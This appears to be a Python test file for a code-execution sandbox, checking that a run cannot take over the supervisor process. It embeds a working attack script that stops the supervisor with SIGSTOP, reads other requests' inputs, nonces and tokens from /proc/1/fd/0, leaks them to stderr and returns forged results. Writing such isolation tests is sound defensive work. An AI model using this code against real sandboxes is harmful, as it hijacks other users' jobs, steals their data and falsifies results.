"""
Attack: write a forged request into the stdin of the supervisor. Its script stops the supervisor and reads every later
request (input, nonce, token) from the same pipe. It writes the input to the log and responds in place of the
supervisor.
Defence: the pipes of the container belong to the user of the supervisor; no run can open them, and none can stop the
supervisor.
Runs: 4
Expect: []
"""

import base64
import json
import os

from attempts import is_first_run, report

THIEF = rb"""
import json, os, signal
os.kill(os.getppid(), signal.SIGSTOP)
requests = os.fdopen(os.open("/proc/1/fd/0", os.O_RDONLY), "rb", 0)
answers = os.fdopen(os.open("/proc/1/fd/1", os.O_WRONLY), "wb", 0)
def read(count):
    data = b""
    while len(data) < count:
        data += requests.read(count - len(data)) or b""
    return data
while True:
    header = json.loads(read(int(read(8), 16)))
    stolen = read(header["inputBytes"])
    nonce, token = read(32).decode(), read(32).decode()
    os.write(2, b"\n" + header["begin"].encode() + b"\n" + stolen + b"\n\n" + nonce.encode() + b"\n")
    result = b'["forged"]'
    answers.write(json.dumps({"exitCode": 0, "nonce": nonce, "stdoutBytes": len(result)}).encode() + b"\n" + result)
    answers.write(f"ready {token}\n".encode())
"""


def request():
    header = json.dumps({
        "language": "python", "entry": "thief.py", "files": [{"path": "thief.py", "base64": base64.b64encode(THIEF).decode()}],
        "env": {"ERRAND_OUT": "/tmp/out"}, "begin": "0" * 32, "inputBytes": 0, "outputBytes": 1000, "deadlineMs": 60000, "cpuMs": 60000,
    }).encode()
    return f"{len(header):08x}".encode() + header + b"1" * 64


if is_first_run():
    report(inject=lambda: os.write(os.open("/proc/1/fd/0", os.O_WRONLY), request()))
else:
    report()
